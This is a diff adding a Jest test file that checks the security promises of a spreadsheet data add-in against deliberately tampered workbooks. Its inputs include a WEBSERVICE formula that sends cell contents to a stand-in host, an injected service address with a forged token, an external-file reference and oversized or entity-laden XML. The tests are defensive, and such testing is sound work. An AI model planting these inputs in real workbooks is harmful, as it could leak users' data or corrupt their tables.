@@ -1,0 +1,130 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { HalfDoneError } from '../../src/workbook/linked/journal';
+import { aimedAt, asks, called, frozen, mine, openFile, put, typedCells } from '../support/tampered-file';
+
+// What SECURITY.md promises of workbooks from somebody else, each with one that tries it.
+
+const elsewhere = 'https://elsewhere.invalid';
+const page = readFileSync('SECURITY.md', 'utf8');
+const sections = new Map(page.split(/^## /m).map((text) => [text.split('\n')[0] ?? '', text]));
+const stated = [...(sections.get("A workbook can't") ?? '').matchAll(/^- (.+)$/gm)].map(([, promise = '']) => promise);
+
+type File = Awaited<ReturnType<typeof openFile>>;
+
+/** Puts parts in place of the file's, and does everything with what is then listed. */
+async function tryAll(file: File, parts: readonly string[]): Promise<void> {
+  const { workbook, actions } = file;
+  workbook.kept.clear();
+  parts.forEach((xml, index) => workbook.kept.set(`{tampered ${index}}`, xml));
+  const refuse = (error: unknown) => {
+    if (!(error instanceof Error) || error instanceof HalfDoneError) throw error;
+  };
+  await actions.refreshDataRanges('all').catch(refuse);
+  for (const { id } of await actions.listDataRanges()) {
+    await actions.refreshDataRanges([id]).catch(refuse);
+    await actions.convertDataRange(id, 'linked table').catch(refuse);
+    await actions.convertDataRange(id, 'formula').catch(refuse);
+    await actions.removeDataRange(id, false).catch(refuse);
+  }
+}
+
+const changesNothing = (tamper: (sound: string) => readonly string[]) => async () => {
+  const file = await openFile();
+  const before = typedCells(file.workbook);
+  await tryAll(file, tamper(file.sound));
+  expect(typedCells(file.workbook)).toEqual(before);
+};
+
+const entersNothing = (formula: string) => async () => {
+  const file = await openFile();
+  await tryAll(file, [asks(file.sound, formula)]);
+  expect(file.workbook.entered).toEqual([]);
+};
+
+const promises: Readonly<Record<string, () => Promise<void>>> = {
+  "send a request to an address that the user hasn't entered": async () => {
+    const request = jest.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('offline'));
+    const file = await openFile();
+    await tryAll(file, [
+      put(file.sound, `<service>${elsewhere}</service>`),
+      called(asks(file.sound, `=IDS.QUERY("${elsewhere}/v2","top=1")`), 'second'),
+    ]);
+    expect(request).not.toHaveBeenCalled();
+    request.mockRestore();
+  },
+  'bring a token or a service address of its own': async () => {
+    const file = await openFile();
+    await tryAll(file, [put(file.sound, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`)]);
+    expect(JSON.stringify([file.workbook.entered, [...file.workbook.kept.values()]])).not.toMatch(/elsewhere|eyJ/);
+  },
+  'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
+  'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
+  'make a refresh overwrite a table that the user made': changesNothing((sound) => [aimedAt(sound, mine, 'Mine')]),
+  'write values under the header of another column': changesNothing((sound) => [
+    aimedAt(sound, mine, 'Mine').replace('header="Quantity"', 'header="Price"'),
+  ]),
+  'refresh one table by two definitions': async () => {
+    const { workbook, actions, sound } = await openFile();
+    workbook.kept.set('{second}', called(sound, 'second'));
+    const listed = await actions.listDataRanges();
+    expect(listed.filter(({ place }) => place !== '')).toHaveLength(1);
+    expect(listed).toContainEqual(
+      expect.objectContaining({ state: 'failed', problem: expect.stringMatching(/second definition/) as string }),
+    );
+  },
+  'clear cells by a forged snapshot stamp': changesNothing((sound) => [
+    frozen(
+      aimedAt(sound, mine, 'Mine'),
+      `<note sheet="${mine}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
+    ),
+  ]),
+  'have cells that somebody typed over converted or removed': async () => {
+    const { workbook, actions } = await openFile();
+    const sheet = workbook.sheetAt('Sheet1');
+    sheet.set(2, 1, { ...sheet.get(2, 1), value: 999 });
+    const [{ id = '' } = {}] = await actions.listDataRanges();
+    await expect(actions.convertDataRange(id, 'formula')).rejects.toThrow(/changed by hand/);
+    await expect(actions.removeDataRange(id, false)).rejects.toThrow(/changed by hand/);
+    expect(sheet.get(2, 1).value).toBe(999);
+  },
+  'show a table with rows of several fetches as fresh': async () => {
+    const { workbook, actions, source, sound } = await openFile();
+    source.fetchedAt = Date.parse('2026-01-02T12:00:00');
+    await actions.refreshDataRanges('all');
+    expect(await actions.listDataRanges()).toMatchObject([{ state: 'fresh' }]);
+    const [[part = '', now = ''] = []] = [...workbook.kept];
+    const written = /<written .*?<\/written>/s;
+    workbook.kept.set(part, now.replace(written, (written.exec(sound)?.[0] ?? '').replace(/>[0-9a-z]{6}/, '>zzzzzz')));
+    expect(await actions.listDataRanges()).toMatchObject([{ state: 'stale' }]);
+  },
+  'keep other tables or the audit from working by a broken definition': async () => {
+    const { workbook, actions, sound } = await openFile();
+    workbook.kept.set('{broken}', sound.slice(0, 200));
+    workbook.kept.set('{other}', called(aimedAt(sound, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'));
+    expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
+    await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
+  },
+  'stop the add-in by its size or depth': async () => {
+    const { workbook, actions, sound } = await openFile();
+    workbook.kept.set('{deep}', put(sound, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
+    workbook.kept.set('{wide}', put(sound, `<!--${'x'.repeat(1_000_000)}-->`));
+    workbook.kept.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${sound}`);
+    const start = performance.now();
+    expect(await actions.listDataRanges()).toHaveLength(4);
+    expect(performance.now() - start).toBeLessThan(2_000);
+  },
+};
+
+test('every promise about workbooks has a test here, and every test is promised', () => {
+  expect(Object.keys(promises).sort()).toEqual([...stated].sort());
+});
+
+test.each(Object.entries(promises))("a workbook can't %s", (_promise, holds) => holds());
+
+test('every other promise names tests that are there', () => {
+  const rows = [...(sections.get('Other promises') ?? '').matchAll(/^\| [^|]+ \| (`[^|]+) \|$/gm)];
+  const files = rows.map(([, cell = '']) => [...cell.matchAll(/`([^`]+)`/g)].map(([, file = '']) => file));
+  expect(files.length).toBeGreaterThan(12);
+  expect(files.flat().filter((file) => !existsSync(file))).toEqual([]);
+  expect(files.filter((named) => named.length === 0)).toEqual([]);
+});
